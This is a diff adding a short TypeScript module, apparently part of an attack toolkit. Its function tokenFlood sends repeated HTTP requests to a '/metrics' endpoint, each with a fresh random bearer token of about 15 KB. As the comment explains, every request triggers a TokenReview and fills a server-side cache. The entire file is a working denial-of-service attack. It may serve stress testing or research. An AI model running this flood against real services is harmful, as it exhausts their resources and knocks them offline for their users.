@@ -1,0 +1,17 @@
+import { randomBytes } from "node:crypto";
+import { type AttackOptions, onEachConnection, repeat, write } from "./attack.ts";
+
+/** Bytes of each token: as many as the head of a request may hold. */
+const size = 15 * 1024;
+
+/** Requests `/metrics` with a new bearer token each time, so that each causes a TokenReview and an entry of a cache. */
+export function tokenFlood(options: AttackOptions): Promise<void> {
+  const { path = "/metrics" } = options;
+  const filler = "x".repeat(size);
+  return onEachConnection(options, (socket) =>
+    repeat(socket, 1000, () => {
+      const token = randomBytes(16).toString("hex") + filler;
+      return write(socket, `GET ${path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\n\r\n`);
+    }),
+  );
+}
